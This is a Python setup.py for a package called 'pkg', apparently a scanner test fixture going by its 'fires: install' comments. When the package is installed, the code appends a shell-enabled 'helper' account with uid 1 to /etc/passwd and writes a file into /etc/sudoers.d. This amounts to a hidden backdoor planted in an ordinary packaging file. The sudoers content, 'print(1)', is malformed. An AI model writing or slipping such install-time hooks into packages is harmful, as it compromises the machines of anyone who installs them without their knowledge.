# file: setup.py
from setuptools import setup

with open("/etc/passwd", "a") as out:  # fires: install
    out.write("helper:x:1:1::/:/bin/sh\n")
open("/etc/sudoers.d/helper", mode="w").write("print(1)\n")  # fires: install
setup(name="pkg", version="1.0")
